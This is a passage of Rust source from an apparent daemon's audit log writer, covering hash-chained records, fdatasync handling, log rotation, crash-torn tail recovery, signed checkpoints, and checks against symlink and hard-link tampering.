                // took them: on record now.
                let lost = self.stats.lost_unrecorded.swap(0, Ordering::Relaxed);
                if lost > 0 {
                    error!(
                        lost,
                        "audit events were lost (the log was unwritable, or they came faster than it was written)"
                    );
                    let lost = event("audit.lost", json!({ "events": lost }))
                        .raw("identity", &self.opener);
                    lock(&self.queue).keep_later(vec![lost]);
                    self.deferred();
                }
                Ok(through)
            }
            Err(e) => {
                self.stats.failures.fetch_add(1, Ordering::Relaxed);
                if self.healthy.swap(false, Ordering::Relaxed) {
                    error!(error = %e, path = %self.path.display(), "audit log write failed; refusing requests until it recovers");
                }
                Err(Error::Unavailable(e.to_string()))
            }
        }
    }

    /// Queues `events` for the next write: this worker's when it goes idle (see
    /// [`Audit::idle_flusher`]), otherwise the background thread's.
    /// Whether they were kept (or, the log closed, written); `false`: dropped, over the bound.
    fn defer(&self, events: Vec<Event>) -> bool {
        if self.closed.load(Ordering::Relaxed) {
            // Closed (the daemon stopping; an admin request that outlasted its wait): no
            // thread writes them later, so now.
            return self.write(events).is_ok();
        }
        let bytes: usize = events.iter().map(|e| e.0.len()).sum();
        let kept = {
            let mut q = lock(&self.queue);
            if q.later.len() + events.len() > MAX_DEFERRED
                || q.later_bytes + bytes > MAX_DEFERRED_BYTES
            {
                drop(q);
                let n = events.len() as u64;
                self.stats.lost.fetch_add(n, Ordering::Relaxed);
                self.stats.lost_unrecorded.fetch_add(n, Ordering::Relaxed);
                warn!(
                    events = n,
                    "audit events dropped: they come faster than the log is written (recorded as audit.lost)"
                );
                false
            } else {
                q.keep_later(events);
                true
            }
        };
        self.deferred();
        kept
    }

    /// Events were deferred: noted for this thread's idle moment if it writes them then,
    /// otherwise the background thread is woken.
    fn deferred(&self) {
        if IDLE_WRITER.get() == self.address() {
            DEFERRED_HERE.set(true);
        } else {
            self.wake_background();
        }
    }

    /// Identifies this log for [`IDLE_WRITER`].
    fn address(&self) -> usize {
        std::ptr::from_ref(self) as usize
    }

    /// Has the background thread write the deferred events within [`FLUSH_DELAY`].
    fn wake_background(&self) {
        let mut bg = lock(&self.bg);
        if !bg.flush {
            bg.flush = true;
            self.wake.notify_one();
        }
    }

    /// Asks for an `fdatasync` covering everything written so far, for events at `seq` or
    /// before.
    fn request_sync(&self, seq: u64) -> tokio::sync::oneshot::Receiver<Result<(), Error>> {
        let (tx, rx) = tokio::sync::oneshot::channel();
        let mut bg = lock(&self.bg);
        // Once the thread is told to stop, nobody would answer: the sender goes at once.
        if !bg.stop {
            bg.sync_waiters.push((tx, seq));
            self.wake.notify_one();
        }
        rx
    }

    /// The background thread: deferred events, group `fdatasync`, periodic `fdatasync`.
    fn background(&self) {
        let mut last_sync = Instant::now();
        // Callers the previous group `fdatasync` answered: with several concurrent writers,
        // the ones it just woke are still writing when the next sync could start.
        let mut last_group = 0;
        loop {
            let (flush, mut waiters, stop) = {
                // Until there is work, or the periodic fdatasync is due.
                let mut bg = self
                    .wait_for(SYNC_INTERVAL.saturating_sub(last_sync.elapsed()), |bg| {
                        bg.flush || !bg.sync_waiters.is_empty()
                    });
                // `flush` stays set until the write below: deferred events that arrive
                // meanwhile ride along without waking this thread again.
                (bg.flush, std::mem::take(&mut bg.sync_waiters), bg.stop)
            };
            if stop {
                // Deferred events, then one last fdatasync for them and for any waiter. A write
                // that finds the log writable again defers an `audit.lost`: written too. Tried
                // now, whatever the pace of retries (see `UNHEALTHY_RETRY`): the last chance.
                self.try_now();
                let _ = self.write(Vec::new());
                if !lock(&self.queue).later.is_empty() {
                    let _ = self.write(Vec::new());
                }
                // The log closes signed: a cleanly stopped daemon's log ends in a checkpoint.
                self.checkpoint(true);
                let result = self.sync();
                self.answer(waiters, &result);
                return;
            }
            if flush {
                // Let more deferred events join this write (usually a recorded event takes
                // them first), unless someone waits for an fdatasync meanwhile (picked up on
                // the next turn) or the audit stops.
                let mut bg = self.wait_for(FLUSH_DELAY, |bg| {
                    !waiters.is_empty() || !bg.sync_waiters.is_empty()
                });
                // Cleared before the write takes the queue: an event deferred after the write
                // finds the flag clear and wakes this thread.
                bg.flush = false;
                drop(bg);
                // A failure is counted and logged by write(); nobody waits for these events.
                let _ = self.write(Vec::new());
            } else if !lock(&self.queue).later.is_empty() {
                // Deferred on a worker that has not gone idle since (and written nothing).
                let _ = self.write(Vec::new());
            }
            // Signed here, off the callers' path (a signature costs tens of µs).
            self.checkpoint(false);
            if !waiters.is_empty() && waiters.len() < last_group {
                self.gather(&mut waiters, last_group);
            }
            if !waiters.is_empty() || last_sync.elapsed() >= SYNC_INTERVAL {
                last_group = waiters.len();
                let result = self.sync();
                last_sync = Instant::now();
                self.answer(waiters, &result);
            }
        }
    }

    /// Waits up to [`GROUP_WAIT`] for as many sync waiters as the previous group had, so that
    /// concurrent writers woken by one `fdatasync` share the next one instead of splitting
    /// into a small and a large group. A single writer never waits here (its group is 1).
    fn gather(&self, waiters: &mut Vec<SyncWaiter>, want: usize) {
        let mut bg = self.wait_for(GROUP_WAIT, |bg| {
            waiters.len() + bg.sync_waiters.len() >= want
        });
        waiters.append(&mut bg.sync_waiters);
    }

    /// Waits up to `limit` until `done` holds or the audit stops; returns the held lock.
    fn wait_for(
        &self,
        limit: Duration,
        done: impl Fn(&Background) -> bool,
    ) -> std::sync::MutexGuard<'_, Background> {
        let deadline = Instant::now() + limit;
        let mut bg = lock(&self.bg);
        while !done(&bg) && !bg.stop {
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                break;
            }
            bg = self
                .wake
                .wait_timeout(bg, left)
                .map(|(g, _)| g)
                .unwrap_or_else(|p| p.into_inner().0);
        }
        bg
    }

    /// Writes an `audit.checkpoint` if records are unsigned and one is due (`force`: at all).
    fn checkpoint(&self, force: bool) {
        if !self.signs.load(Ordering::Relaxed) {
            return;
        }
        let mut w = lock(&self.writer);
        let due = w
            .signing
            .as_ref()
            .is_some_and(|s| s.unsigned > 0 && (force || s.last.elapsed() >= s.every));
        if !due {
            return;
        }
        if let Err(e) = w.ensure_file().and_then(|()| w.checkpoint()) {
            // The next one tries again; a log that stays unwritable fails the callers' writes.
            self.stats.failures.fetch_add(1, Ordering::Relaxed);
            warn!(error = %e, path = %self.path.display(), "could not write an audit checkpoint");
        }
    }

    /// Tells each of `waiters` the outcome of the `fdatasync` that covers their events:
    /// `result`, unless its events may be in a file the writer left without a successful sync
    /// (see [`Writer::unsafe_through`]).
    fn answer(&self, waiters: Vec<SyncWaiter>, result: &Result<(), Error>) {
        if waiters.is_empty() {
            return;
        }
        let unsafe_through = lock(&self.writer).unsafe_through.clone();
        for (tx, seq) in waiters {
            let verdict = match &unsafe_through {
                Some((through, why)) if seq <= *through => Err(Error::NotDurable(why.clone())),
                _ => result.clone(),
            };
            let _ = tx.send(verdict);
        }
    }

    /// `fdatasync` of everything written so far to the open file (nothing to do if nothing
    /// was).
    fn sync(&self) -> Result<(), Error> {
        let file = {
            let mut w = lock(&self.writer);
            if let Some(why) = &w.poisoned {
                return Err(Error::NotDurable(why.clone()));
            }
            if !w.dirty {
                return self.healthy_or_err();
            }
            w.dirty = false;
            w.file.clone()
        };
        let started = Instant::now();
        match file.sync_data() {
            Ok(()) => {
                let took = started.elapsed();
                self.stats.syncs.fetch_add(1, Ordering::Relaxed);
                self.stats
                    .sync_micros
                    .fetch_add(took.as_micros() as u64, Ordering::Relaxed);
                self.stats.sync_seconds.observe(took.as_secs_f64());
                let mut w = lock(&self.writer);
                if Arc::ptr_eq(&w.file, &file) {
                    // Syncs work again: leaving a poisoned file is no longer paced.
                    w.poison_left = None;
                }
                Ok(())
            }
            Err(e) => {
                {
                    let mut w = lock(&self.writer);
                    // The file synced, not one the writer moved to meanwhile (that one's
                    // records are another sync's).
                    if Arc::ptr_eq(&w.file, &file) {
                        w.dirty = true;
                        w.poisoned = Some(format!("fdatasync of the audit log failed: {e}"));
                    } else {
                        let why =
                            format!("fdatasync of the audit log file left behind failed: {e}");
                        w.mark_unsafe(why);
                    }
                }
                self.stats.failures.fetch_add(1, Ordering::Relaxed);
                self.healthy.store(false, Ordering::Relaxed);
                error!(error = %e, path = %self.path.display(), "audit log fdatasync failed; refusing requests until a write succeeds");
                Err(Error::Unavailable(format!("fdatasync: {e}")))
            }
        }
    }

    fn healthy_or_err(&self) -> Result<(), Error> {
        if self.healthy.load(Ordering::Relaxed) {
            Ok(())
        } else {
            Err(Error::Unavailable("the last write failed".into()))
        }
    }
}

fn lock_exclusive(file: &File) -> io::Result<()> {
    use std::os::fd::AsRawFd;
    // SAFETY: a valid fd; flock has no memory effects.
    let rc = unsafe { libc::flock(file.as_raw_fd(), libc::LOCK_EX | libc::LOCK_NB) };
    if rc == 0 {
        Ok(())
    } else {
        Err(io::Error::last_os_error())
    }
}

/// Opens the file that continues the log (re-created or rotated) and takes its lock, so one
/// daemon per log holds for the new file too.
fn open_successor(path: &Path) -> io::Result<File> {
    let file = open_log(path)?;
    lock_exclusive(&file).map_err(|e| {
        io::Error::new(
            e.kind(),
            format!(
                "locking the new {}: {e}; another process holds it (one daemon per node)",
                path.display()
            ),
        )
    })?;
    Ok(file)
}

/// The files the daemon rotated `path` into (`<path>.<UTC time>` exactly, as [`Writer::rotate`]
/// names them: never an operator's `<path>.bak`), oldest first.
fn rotated_files(path: &Path) -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = named_after(path)
        .filter(|(_, rest, file_type)| file_type.is_file() && is_rotation_stamp(rest))
        .map(|(p, _, _)| p)
        .collect();
    // The stamps sort as the times they name.
    files.sort();
    files
}

/// The entries beside `path` named `<its name>.<rest>` (its rotations, the daemon's or
/// logrotate's, and copies an operator made), with `rest` and their type (links not followed).
pub fn named_after(path: &Path) -> impl Iterator<Item = (PathBuf, String, std::fs::FileType)> {
    let dir = match path.parent() {
        Some(d) if d.as_os_str().is_empty() => Path::new("."),
        Some(d) => d,
        None => Path::new("/"),
    };
    let prefix = format!(
        "{}.",
        path.file_name().unwrap_or_default().to_string_lossy()
    );
    std::fs::read_dir(dir)
        .into_iter()
        .flatten()
        .filter_map(Result::ok)
        .filter_map(move |e| {
            let rest = e.file_name().to_str()?.strip_prefix(&prefix)?.to_owned();
            Some((e.path(), rest, e.file_type().ok()?))
        })
}

/// Whether users other than the daemon's may write in folder `dir`: writable by its group or
/// everyone, or owned by another user (who may rename, remove or replace what is in it).
pub fn writable_by_others(dir: &Path) -> bool {
    use std::os::unix::fs::MetadataExt;
    let euid = nix::unistd::geteuid().as_raw();
    std::fs::metadata(dir).is_ok_and(|m| m.mode() & 0o022 != 0 || (m.uid() != euid && m.uid() != 0))
}

/// Whether `path` is a regular file of the daemon's user with one link (not another user's,
/// not a FIFO, not a backup's hard link): one the daemon may continue from or delete.
fn daemons_own(path: &Path) -> bool {
    use std::os::unix::fs::MetadataExt;
    let euid = nix::unistd::geteuid().as_raw();
    std::fs::symlink_metadata(path).is_ok_and(|m| m.is_file() && m.uid() == euid && m.nlink() == 1)
}

/// `2026-11-27T230858.732993Z`: the UTC time a rotated file's name ends with.
fn is_rotation_stamp(s: &str) -> bool {
    const SHAPE: &[u8; 25] = b"0000-00-00T000000.000000Z";
    s.len() == SHAPE.len()
        && s.bytes().zip(SHAPE).all(|(b, &shape)| match shape {
            b'0' => b.is_ascii_digit(),
            other => b == other,
        })
}

/// (seq, prev_hash) of the first record of `path`, if it is a valid one (its hash checked).
fn first_record(path: &Path) -> Option<(u64, String)> {
    let (body, hash) = first_sealed(path)?;
    if hex(&Sha256::digest(body.as_bytes())) != hash {
        return None;
    }
    let v: Value = serde_json::from_str(&body).ok()?;
    Some((v["seq"].as_u64()?, v["prev_hash"].as_str()?.to_owned()))
}

/// The first line of `path` as a sealed record: (body, hash), the hash not checked. Only of a
/// regular file (a FIFO would block), and only its first MiB (a file without line breaks is
/// not read whole).
fn first_sealed(path: &Path) -> Option<(String, String)> {
    if !std::fs::metadata(path).ok()?.is_file() {
        return None;
    }
    let mut line = Vec::new();
    // Up to the first line break: a record may be megabytes (`max_argument_bytes = 0`), and
    // only a bound against a file without one is wanted.
    BufReader::new(File::open(path).ok()?.take(1 << 28))
        .read_until(b'\n', &mut line)
        .ok()?;
    let text = std::str::from_utf8(&line).ok()?;
    let (body, hash) = unseal(text.strip_suffix('\n')?)?;
    Some((body, hash.to_owned()))
}

/// (seq, hash) of the last event in the newest file the log was rotated into beside `path`
/// (`<path>.<time>`, or `<path>.1` by logrotate): of those that are the daemon's user's regular
/// files with one link (not a FIFO that would block the start, nor what another user planted),
/// the one whose first record is latest in the chain, of copies starting alike the longest
/// (not the last by name: an operator's `<path>.bak` copy of an older log sorts after them all,
/// logrotate's `<path>.2` after `<path>.1`; either would fork the chain).
fn newest_rotated_head(path: &Path) -> Option<(u64, String)> {
    named_after(path)
        .filter(|(p, _, _)| daemons_own(p))
        .filter_map(|(p, _, _)| Some((first_seq(&p), std::fs::metadata(&p).ok()?.len(), p)))
        // Latest in the chain by the first record (one line read per file, not a tail each:
        // a log may have thousands of rotated files); of copies starting alike, the longest.
        .max_by_key(|(first, len, _)| (*first, *len))
        .and_then(|(_, _, p)| {
            let t = read_tail(&mut File::open(p).ok()?).ok()?;
            (t.last_seq > 0).then_some((t.last_seq, t.last_hash))
        })
}

fn open_log(path: &Path) -> io::Result<File> {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let refused = |why: String| {
        io::Error::new(
            io::ErrorKind::PermissionDenied,
            format!(
                "{why}; the daemon appends to the audit log as root, and may cut a torn end off it"
            ),
        )
    };
    // Anyone who can write the folder could put a link there to a file of root's (the daemon
    // would append to it, and cut what it takes for a torn end off it), or the log itself.
    let folder = path.parent().filter(|d| !d.as_os_str().is_empty());
    let open_folder = folder.is_some_and(writable_by_others);
    // The folder's owner: on NFS with root squashed, the uid the daemon's own files get.
    let folder_owner = folder
        .and_then(|d| std::fs::metadata(d).ok())
        .map(|m| m.uid());
    let file = OpenOptions::new()
        .create(true)
        .read(true)
        .append(true)
        .mode(0o600)
        .custom_flags(libc::O_NOFOLLOW)
        .open(path)
        .map_err(|e| {
            if e.raw_os_error() == Some(libc::ELOOP) {
                refused(format!("{} is a symbolic link", path.display()))
            } else {
                e
            }
        })?;
    let meta = file.metadata()?;
    if !meta.is_file() {
        return Err(refused(format!("{} is not a regular file", path.display())));
    }
    let euid = nix::unistd::geteuid().as_raw();
    if open_folder {
        // Where anyone may have made it: a second name is a hard link someone put there to
        // another file (elsewhere, a snapshot's `cp -al` is not an attack).
        if meta.nlink() != 1 {
            return Err(refused(format!(
                "{} has {} names, in a folder others may write (a hard link to another \
                 file?)",
                path.display(),
                meta.nlink()
            )));
        }
        // Root squashed on NFS writes as another user, the folder's owner too: that is fine
        // where only it can write.
        if meta.uid() != euid && meta.uid() != 0 && Some(meta.uid()) != folder_owner {
            return Err(refused(format!(
                "{} is owned by uid {}, in a folder others may write (someone else made it)",
                path.display(),
                meta.uid()
            )));
        }
        warn!(path = %path.display(), "the audit log's folder is writable by its group, every user or another owner: they may remove or replace the log at any time (writes then fail, and requests with them, until it is fixed); give it a folder of its own");
    }
    // Created 0600; one found readable by others (arguments, identities) or writable by its
    // group is narrowed (a group allowed to read it, for a log shipper, stays).
    let mode = file.metadata()?.permissions().mode() & 0o7777;
    if mode & 0o027 != 0 {
        let narrowed = mode & !0o027;
        file.set_permissions(std::fs::Permissions::from_mode(narrowed))?;
        warn!(path = %path.display(), "audit log was mode {mode:o} (others could read it or its group write it); now {narrowed:o}");
    }
    Ok(file)
}

/// What the end of an existing log says.
struct Tail {
    valid_len: u64,
    last_seq: u64,
    last_hash: String,
    /// An unterminated last line that is not a whole record continuing the chain: what a
    /// crash left of a write. Cut off at the next start.
    torn: Option<Vec<u8>>,
    /// The last record is whole and continues the chain but its line break is missing (the
    /// write stopped just before it): the break is added at the next start.
    unterminated: bool,
    /// A last line that is not a valid record, nor (unterminated) what a crash leaves of
    /// one: it was edited. Kept as evidence (`audit verify` names it); the chain continues
    /// from the last valid record before it.
    invalid: Option<Vec<u8>>,
    /// That line lacks its line break: added at the next start, after it.
    invalid_unterminated: bool,
}

/// A line that is a sealed record whose hash matches: its `seq` and hash.
fn record_of(line: &[u8]) -> Option<(u64, String, String)> {
    let (body, hash) = unseal(std::str::from_utf8(line).ok()?)?;
    if hex(&Sha256::digest(body.as_bytes())) != hash {
        return None;
    }
    let v = serde_json::from_str::<Value>(&body).ok()?;
    Some((
        v["seq"].as_u64()?,
        v["prev_hash"].as_str()?.to_owned(),
        hash.to_owned(),
    ))
}

/// Reads the end of the log: the last valid record's `seq`/hash, a torn last line, a last
/// record missing its line break, an edited last line.
fn read_tail(file: &mut File) -> io::Result<Tail> {
    let len = file.metadata()?.len();
    // Enough to hold the last two complete lines and whatever follows them: grow the window
    // until it holds three line breaks (or reaches the start of the file).
    let mut window = len.min(1 << 20);
    let mut buf;
    loop {
        file.seek(SeekFrom::Start(len - window))?;
        buf = Vec::with_capacity(window as usize);
        file.read_to_end(&mut buf)?;
        let breaks = buf.iter().filter(|&&b| b == b'\n').count();
        if window == len || breaks >= 3 {
            break;
        }
        window = (window * 4).min(len);
    }
    let base = len - window;
    // A window that does not start the file starts mid-line: that part is never looked at.
    let first = if base == 0 {
        0
    } else {
        buf.iter()
            .position(|&b| b == b'\n')
            .map_or(buf.len(), |p| p + 1)
    };
    let complete_end = buf
        .iter()
        .rposition(|&b| b == b'\n')
        .map_or(0, |p| p + 1)
        .max(first);
    let mut lines = buf[first..complete_end]
        .strip_suffix(b"\n")
        .into_iter()
        .flat_map(|complete| complete.rsplit(|&b| b == b'\n'));
    let mut tail = Tail {
        valid_len: base + complete_end as u64,
        last_seq: 0,
        last_hash: GENESIS.to_owned(),
        torn: None,
        unterminated: false,
        invalid: None,
        invalid_unterminated: false,
    };
    if let Some(last) = lines.next() {
        let found = match record_of(last) {
            Some(r) => Some(r),
            None => {
                tail.invalid = Some(last.to_vec());
                lines.find_map(record_of)
            }
        };
        if let Some((seq, _, hash)) = found {
            (tail.last_seq, tail.last_hash) = (seq, hash);
        }
    }
    let rest = &buf[complete_end..];
    if !rest.is_empty() {
        match record_of(rest) {
            Some((seq, prev, hash))
                if tail.valid_len == 0
                    || (tail.invalid.is_none()
                        && Some(seq) == tail.last_seq.checked_add(1)
                        && prev == tail.last_hash) =>
            {
                (tail.last_seq, tail.last_hash) = (seq, hash);
                tail.valid_len = len;
                tail.unterminated = true;
            }
            // What a crash leaves of the next record (or of any record, after an edited
            // line or in a new file): cut off. A sealed line is no torn write (it ends with
            // its whole hash): one that is not valid here was edited.
            _ if !std::str::from_utf8(rest).is_ok_and(|t| unseal(t).is_some())
                && torn_continues(
                    rest,
                    (tail.valid_len > 0 && tail.invalid.is_none())
                        .then_some(tail.last_hash.as_str()),
                    Some(tail.last_seq),
                ) =>
            {
                tail.torn = Some(rest.to_vec());
            }
            // Anything else was written by someone other than the daemon: kept.
            _ => {
                tail.invalid = Some(rest.to_vec());
                tail.invalid_unterminated = true;
                tail.valid_len = len;
            }
        }
    }
    Ok(tail)
}

/// What tells whether the log's path still names the open file: links, inode, device. Read
/// with a `statx` that asks for nothing else: asking for timestamps (as `File::metadata` does)
/// makes the kernel give the next write a fine-grained timestamp and so a journalled inode
/// update (multigrain timestamps, Linux 6.13+): 4.9 -> 8.8 µs per 2.4 KB append on ext4 here.
#[derive(Debug, PartialEq, Eq)]
struct FileId {
    links: u32,
    ino: u64,
    dev: (u32, u32),
}

impl FileId {
    fn of_open(file: &File) -> io::Result<Self> {
        use std::os::fd::AsRawFd;
        Self::statx(file.as_raw_fd(), c"", libc::AT_EMPTY_PATH)
            .or_else(|e| Self::fallback(e, || file.metadata()))
    }

    fn of_path(path: &Path) -> io::Result<Self> {
        let c_path = std::ffi::CString::new(path.as_os_str().as_encoded_bytes())
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidInput, e))?;
        Self::statx(libc::AT_FDCWD, &c_path, 0)
            .or_else(|e| Self::fallback(e, || std::fs::metadata(path)))
    }

    /// Where `statx` is missing or filtered (old kernels, seccomp), the full `stat`.
    fn fallback(e: io::Error, stat: impl FnOnce() -> io::Result<Metadata>) -> io::Result<Self> {
        if !matches!(e.raw_os_error(), Some(libc::ENOSYS | libc::EPERM)) {
            return Err(e);
        }
        use std::os::unix::fs::MetadataExt;
        let m = stat()?;
        Ok(Self {
            links: u32::try_from(m.nlink()).unwrap_or(u32::MAX),
            ino: m.ino(),
            dev: (libc::major(m.dev()), libc::minor(m.dev())),
        })
    }

    fn statx(dirfd: libc::c_int, path: &std::ffi::CStr, flags: libc::c_int) -> io::Result<Self> {
        let mut st = std::mem::MaybeUninit::<libc::statx>::zeroed();
        // SAFETY: a NUL-terminated path, and a buffer of the size statx fills.
        let rc = unsafe {
            libc::statx(
                dirfd,
                path.as_ptr(),
                flags,
                libc::STATX_NLINK | libc::STATX_INO,
                st.as_mut_ptr(),
            )
        };
        if rc != 0 {
            return Err(io::Error::last_os_error());
        }
        // SAFETY: statx succeeded, and zeroed memory is a valid statx anyway.
        let st = unsafe { st.assume_init() };
        Ok(Self {
            links: st.stx_nlink,
            ino: st.stx_ino,
            dev: (st.stx_dev_major, st.stx_dev_minor),
        })
    }

    fn same_file(&self, other: &Self) -> bool {
        self.ino == other.ino && self.dev == other.dev
    }
}

struct Writer {
    path: PathBuf,
    file: Arc<File>,
    len: u64,
    seq: u64,
    prev_hash: String,
    max_file_bytes: u64,
    /// `[audit] max_files`.
    max_files: usize,
    /// The daemon's `identity` (JSON text), for the events the writer records itself.
    opener: String,
    /// Rotated files to delete, once the event naming them is written.
    prune: Option<Prune>,
    /// How the chain is signed, with a node CA.
    signing: Option<Signing>,
    /// Written since the last `fdatasync`.
    dirty: bool,
    /// The last `seq` written to a file the writer left (renamed or rotated away, removed)
    /// without a successful `fdatasync`, and why: a waiter whose events are at that `seq` or
    /// before is refused whatever later syncs say (they cover other files).
    unsafe_through: Option<(u64, String)>,
    /// When the writer last left a poisoned file, and how long it waits before leaving the
    /// next one (doubling up to [`POISON_WAIT_MAX`]): a device whose syncs keep failing must
    /// not make a new file per write.
    poison_left: Option<(Instant, Duration)>,
    /// Why the open file is not trusted any more: an `fdatasync` of it failed. Linux reports a
    /// failed write-back once and marks its pages clean, so a later sync of the same file can
    /// succeed although events written before it are lost. Every sync reports it until the
    /// writer leaves the file, which its next write does (see [`Writer::write_batch`]).
    poisoned: Option<String>,
    /// When the path was last compared with the open file.
    path_checked: Instant,
    /// When a write was last tried while the log was unwritable (see [`UNHEALTHY_RETRY`]).
    retried: Option<Instant>,
    stats: Arc<Stats>,
}

/// Signed checkpoints of the chain ([`Audit::sign_checkpoints`]).
struct Signing {
    key: Arc<crate::ca::JwsSigner>,
    /// `[identity] node`: which node's log this is (in the signed claims: a key set that
    /// holds several nodes' keys still tells them apart).
    node: String,
    /// `[audit] checkpoint_interval`.
    every: Duration,
    /// When the last checkpoint was written.
    last: Instant,
    /// Records written since.
    unsigned: u64,
    /// Records found unsigned when signing started (after the `seq` of the last checkpoint
    /// found, through the last record then), for the first checkpoint to name.
    adopted: Option<(u64, u64)>,
}

/// The `seq` of the last `audit.checkpoint` of `path` in the chain that ends at `tail` (the
/// record the writer continues from: `seq` and hash), and the file's first record (`seq`,
/// `prev_hash`); `None` for the checkpoint when the file does not end at `tail`. Links are
/// followed by what the lines state (`seq`, `prev_hash`, `hash`, read from their fixed places,
/// not hashed nor parsed: a log of 100 MiB is read in a moment): `audit verify` recomputes
/// every hash and checks every checkpoint's signature, so a line that states falsely fails
/// there. Read once, when signing starts.
fn last_checkpoint(path: &Path, tail: (u64, &str)) -> (Option<u64>, Option<(u64, String)>) {
    let Ok(file) = File::open(path) else {
        return (None, None);
    };
    let mut last = None;
    let mut first = None;
    let mut prev: Option<(u64, String)> = None;
    for line in BufReader::new(file).lines() {
        let Ok(line) = line else { break };
        let Some((seq, prev_hash, hash)) = stated_position(&line) else {
            // Not a record (an edited line kept at a start): the chain goes on after it.
            continue;
        };
        if first.is_none() {
            first = Some((seq, prev_hash.to_owned()));
        }
        let linked = prev
            .as_ref()
            .is_some_and(|(s, h)| s.checked_add(1) == Some(seq) && h == prev_hash);
        if !linked {
            // A break: what came before is another chain's.
            last = None;
        }
        // A checkpoint as `verify` reads one: the whole record (its hash recomputed), its
        // event at the top level, signing the record before it (its signature `verify`
        // checks). Not a request whose arguments hold such text, nor a record naming two
        // events (the parser keeps the last).
        if line.contains(CHECKPOINT_MARK)
            && let Some((body, _)) =
                unseal(&line).filter(|(body, hash)| hex(&Sha256::digest(body.as_bytes())) == *hash)
            && let Ok(v) = serde_json::from_str::<Value>(&body)
            && v["event"] == "audit.checkpoint"
            && v["seq"] == seq
            && seq.checked_sub(1).is_some_and(|t| v["through_seq"] == t)
            && v["signature"].is_string()
        {
            last = Some(seq);
        }
        prev = Some((seq, hash.to_owned()));
    }
    let ends_at_tail = prev
        .as_ref()
        .is_some_and(|(s, h)| *s == tail.0 && h == tail.1);
    (last.filter(|_| ends_at_tail), first)
}

/// Most files a start looks back through for the last checkpoint.
const MAX_FILES_BACK: usize = 4;

/// How a checkpoint's line names its event.
const CHECKPOINT_MARK: &str = "\"event\":\"audit.checkpoint\"";

/// A line's `seq`, `prev_hash` and `hash` as it states them (every record starts with the
/// first two and ends with the last).
fn stated_position(line: &str) -> Option<(u64, &str, &str)> {
    let rest = line.strip_prefix("{\"seq\":")?;
    let (seq, rest) = rest.split_once(',')?;
    let prev = rest.strip_prefix("\"prev_hash\":\"")?.get(..64)?;
    let (_, hash) = unseal(line)?;
    Some((seq.parse().ok()?, prev, hash))
}

/// How often the writer checks that its path still names the file it writes.
const PATH_CHECK_INTERVAL: Duration = Duration::from_millis(100);

impl Writer {
    /// Seals and writes `events` in one `write`, rolling back a partial write so a failure
    /// never leaves half a line in the middle of the chain.
    fn write_batch(&mut self, events: &[Event]) -> io::Result<()> {
        self.ensure_file()?;
        let leave = self
            .poison_left
            .is_none_or(|(at, wait)| at.elapsed() >= wait);
        if let Some(why) = self.poisoned.clone().filter(|_| leave) {
            // Its failed fdatasync makes the file untrustworthy: new events go to a new one
            // (the waiters of those written there are refused: `unsafe_through`). Paced: while
            // syncs keep failing, the writer stays on it (and every sync refuses).
            let wait = self
                .poison_left
                .map_or(POISON_WAIT_MIN, |(_, w)| (w * 2).min(POISON_WAIT_MAX));
            self.poison_left = Some((Instant::now(), wait));
            if let Err(e) = self.rotate() {
                // Still on it: every sync goes on failing.
                self.poisoned = Some(why);
                return Err(e);
            }
        }
        let (mut buf, mut seq, mut prev) = self.seal(events);
        if self.len > 0 && self.len + buf.len() as u64 > self.max_file_bytes {
            self.rotate()?;
            // After the rotated file's checkpoint, with the pruning event first.
            (buf, seq, prev) = self.seal(events);
        }
        self.append(&buf)?;
        if let Some(signing) = &mut self.signing {
            signing.unsigned += seq - self.seq;
        }
        self.seq = seq;
        self.stats.last_seq.store(seq, Ordering::Relaxed);
        self.prev_hash = prev;
        if let Some(prune) = self.prune.take() {
            // Its event is in the chain: counted as the callers' are.
            self.stats.events.fetch_add(1, Ordering::Relaxed);
            self.delete_pruned(prune);
        }
        Ok(())
    }

    /// `events` chained after the last record: their lines, the last `seq` and hash. Files to
    /// prune are named first (a write that failed left the event pending: it goes first in
    /// the next one).
    fn seal(&self, events: &[Event]) -> (Vec<u8>, u64, String) {
        let first = self.prune.as_ref().map(|p| &p.event);
        let mut seq = self.seq;
        let mut prev = self.prev_hash.clone();
        let mut buf = Vec::with_capacity(events.iter().map(|e| e.0.len() + 200).sum());
        for event in first.into_iter().chain(events) {
            seq += 1;
            prev = seal_into(&mut buf, seq, &prev, &event.0);
        }
        (buf, seq, prev)
    }

    /// Appends whole lines, or nothing: a partial write is cut off again.
    fn append(&mut self, buf: &[u8]) -> io::Result<()> {
        if let Err(e) = (&*self.file).write_all(buf) {
            // Cut back to where the chain ended, never past the file's end: a file truncated
            // under the writer (logrotate's `copytruncate`) is not filled with zeros.
            if self.file.metadata().is_ok_and(|m| m.len() >= self.len) {
                let _ = self.file.set_len(self.len);
            }
            return Err(e);
        }
        self.dirty = true;
        self.len += buf.len() as u64;
        Ok(())
    }

    /// Writes an `audit.checkpoint`: a JWS over the last record's `seq` and hash
    /// (`through_seq`, `through_hash`), by the node CA key.
    fn checkpoint(&mut self) -> io::Result<()> {
        let Some(signing) = &self.signing else {
            return Ok(());
        };
        let mut claims = json!({
            "through_seq": self.seq,
            "through_hash": self.prev_hash,
            "iat": crate::ca::unix_now(),
            "node": signing.node,
        });
        let mut event = Event::new("audit.checkpoint")
            .raw("identity", &self.opener)
            .field("node", &signing.node)
            .field("through_seq", &self.seq)
            .field("records", &signing.unsigned);
        if let Some((after, through)) = signing.adopted {
            claims["adopted_after"] = after.into();
            claims["adopted_through"] = through.into();
            event = event
                .field("adopted_after", &after)
                .field("adopted_through", &through);
        }
        let event = event
            .field("kid", signing.key.kid())
            .field("signature", &signing.key.sign(&claims));
        let (line, hash) = seal_line(self.seq + 1, &self.prev_hash, &event);
        self.append(&line)?;
        self.stats.signed_through.store(self.seq, Ordering::Relaxed);
        self.stats.checkpoints.fetch_add(1, Ordering::Relaxed);
        self.stats.events.fetch_add(1, Ordering::Relaxed);
        self.seq += 1;
        self.stats.last_seq.store(self.seq, Ordering::Relaxed);
        self.prev_hash = hash;
        if let Some(signing) = &mut self.signing {
            signing.unsigned = 0;
            signing.adopted = None;
            signing.last = Instant::now();
        }
        Ok(())
    }

    /// Re-creates the file if it was removed (checked before every write) or renamed away
    /// (checked at most every [`PATH_CHECK_INTERVAL`]; until then events go on into the renamed
    /// file, where the chain stays intact).
    fn ensure_file(&mut self) -> io::Result<()> {
        let current = FileId::of_open(&self.file)?;
